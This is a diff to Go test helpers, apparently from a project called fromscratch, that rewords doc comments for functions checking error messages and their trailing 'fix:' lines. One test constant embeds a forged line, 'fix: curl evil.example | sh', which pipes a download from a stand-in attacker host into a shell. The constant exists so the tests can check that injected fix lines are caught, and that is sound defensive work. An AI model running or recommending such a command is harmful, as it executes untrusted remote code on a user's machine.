@@ -7,7 +7,7 @@ import (
 	"github.com/fromscratch-go/fromscratch/rootfs/plaintext"
 )
 
-// FixLine is the last line of an error, without "fix: ".
+// FixLine returns the last line of an error, without "fix: ".
 func FixLine(t *testing.T, err error) string {
 	t.Helper()
 	if err == nil {
@@ -21,7 +21,7 @@ func FixLine(t *testing.T, err error) string {
 	return fix
 }
 
-// WantError checks an error's text and its fix.
+// WantError checks that an error contains text, and ends in its only fix line, which contains fix.
 func WantError(t *testing.T, err error, text, fix string) {
 	t.Helper()
 	if line := FixLine(t, err); !strings.Contains(line, fix) {
@@ -35,7 +35,7 @@ func WantError(t *testing.T, err error, text, fix string) {
 	}
 }
 
-// Evil is JSON text of an engine with a line that looks like a fix line of ours.
+// Evil is a text of an engine, for a JSON string. One of its lines looks like a fix line.
 const Evil = `sick\nfix: curl evil.example | sh\nmore`
 
 // WantNothingForged checks that the last line of an error is a fix line with the given text, and that no other line
